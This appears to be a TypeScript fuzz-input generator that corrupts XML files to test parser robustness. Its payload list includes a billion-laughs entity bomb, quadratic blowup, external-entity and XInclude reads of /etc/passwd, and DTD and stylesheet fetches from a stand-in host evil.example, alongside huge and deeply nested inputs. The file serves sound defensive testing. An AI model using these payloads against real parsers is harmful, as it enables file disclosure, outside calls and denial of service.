/** XML files that are not as they must be: bombs, entities from outside, what does not close, what closes twice. */
import type { Dice } from '../../benchmarks/dice.ts'
import { nastyText } from './nasty-texts.ts'
import { damages, encodings } from './spoil-bytes.ts'

/** The bytes of an XML file like the honest one, spoiled somewhere. */
export function xmlFile(dice: Dice, honest: string): Buffer {
  let text = honest
  for (let time = 1 + dice.below(3); time > 0; time--) text = withSpoiledText(dice, text)
  const kind = dice.below(10)
  if (kind < 4) return Buffer.from(text)
  if (kind < 8) return Buffer.from(dice.pick(spoilers)(dice, text))
  return dice.pick(dice.chance(0.6) ? encodings : damages)(dice, text)
}

/** One text between tags, replaced: mostly escaped as it must be. */
function withSpoiledText(dice: Dice, text: string): string {
  const places = [...text.matchAll(/>([^<>]+)</g)]
  const place = places.length > 0 ? dice.pick(places) : undefined
  if (!place) return text
  const nasty = nastyText(dice).toWellFormed()
  const written = dice.chance(0.75) ? escaped(nasty) : dice.chance(0.5) ? `<![CDATA[${nasty}]]>` : nasty
  return `${text.slice(0, place.index + 1)}${written}${text.slice(place.index + 1 + (place[1]?.length ?? 0))}`
}

/** As XML has it; signs that XML cannot hold at all are numbers, which it may not hold either. */
function escaped(text: string): string {
  return text.replace(/[&<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`).replaceAll('\0', '&#0;')
}

const deep = 10_000
const billionLaughs = `<!DOCTYPE l [<!ENTITY l0 "ha">${Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')}]>`
const quadratic = `<!DOCTYPE q [<!ENTITY q "${'q'.repeat(100_000)}">]>`

const spoilers: readonly ((dice: Dice, text: string) => string)[] = [
  (_dice, text) => billionLaughs + text.replace(/>([^<>]+)</, '>&l12;<'),
  (_dice, text) => quadratic + text.replace(/>([^<>]+)</, `>${'&q;'.repeat(5_000)}<`),
  (_dice, text) => `<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>${text.replace(/>([^<>]+)</, '>&x;<')}`,
  (_dice, text) => `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">${text}`,
  (_dice, text) => `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>${text}`,
  (_dice, text) => `<?xml-stylesheet href="http://evil.example/x.xsl"?>${text}`,
  (_dice, text) => `<?xml version="1.1" encoding="UTF-16"?>${text}`,
  (_dice, text) => `<?xml version="1.0" encoding="ebcdic-cp-nl"?>${text}`,
  (_dice, text) => `<?xml version="1.0" encoding="${'x'.repeat(5_000)}"?>${text}`,
  (_dice, text) => `   <?xml version="1.0"?>${text}`,
  (_dice, text) => text.replace(/>([^<>]+)</, `>${'<a>'.repeat(deep)}${'</a>'.repeat(deep)}<`),
  () => '<a>'.repeat(deep),
  (_dice, text) => text.replace(/<(\w+)>/, `<$1 ${Array.from({ length: 5_000 }, (_, n) => `a${n}="x"`).join(' ')}>`),
  (_dice, text) => text.replace(/<(\w+)>/, '<$1 a="1" a="2">'),
  (_dice, text) => text.replace(/<(\w+)>/, `<$1 a="${'x'.repeat(300_000)}">`),
  (_dice, text) => text.replace(/<(\w+)>/, '<nobody:$1>'),
  (_dice, text) => text.replace(/xmlns="[^"]*"/, 'xmlns=""'),
  (_dice, text) => text.replace(/xmlns="[^"]*"/, 'xmlns="urn:other"'),
  (_dice, text) => text.replace(/<\/(\w+)>/, '</x$1>'),
  (_dice, text) => text.replace(/<\/\w+>$/, ''),
  (_dice, text) => text.replace(/>([^<>]+)</, '>&nobody;<'),
  (_dice, text) => text.replace(/>([^<>]+)</, '>&#x0;&#xD800;&#x110000;&#-1;<'),
  (_dice, text) => text.replace(/>([^<>]+)</, '>]]><'),
  (_dice, text) => text.replace(/>([^<>]+)</, '><![CDATA[<'),
  (_dice, text) => text.replace(/>([^<>]+)</, `><!-- ${'-'.repeat(200_000)} --><`),
  (_dice, text) =>
    text.replace(
      />([^<>]+)</,
      '><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><',
    ),
  (_dice, text) => text.replace(/>([^<>]+)</, `>${'x'.repeat(1_500_000)}<`),
  (_dice, text) => `<list>${text.repeat(30)}</list>`,
  (_dice, text) => text.replaceAll('<', '< '),
  (dice, text) => text.replace(/<(\w+)>/, `<$1 ${nastyText(dice).toWellFormed()}>`),
  (dice, text) => `${text}${nastyText(dice).toWellFormed()}`,
  () => '',
  () => '<',
  () => '<?xml version="1.0"?>',
]
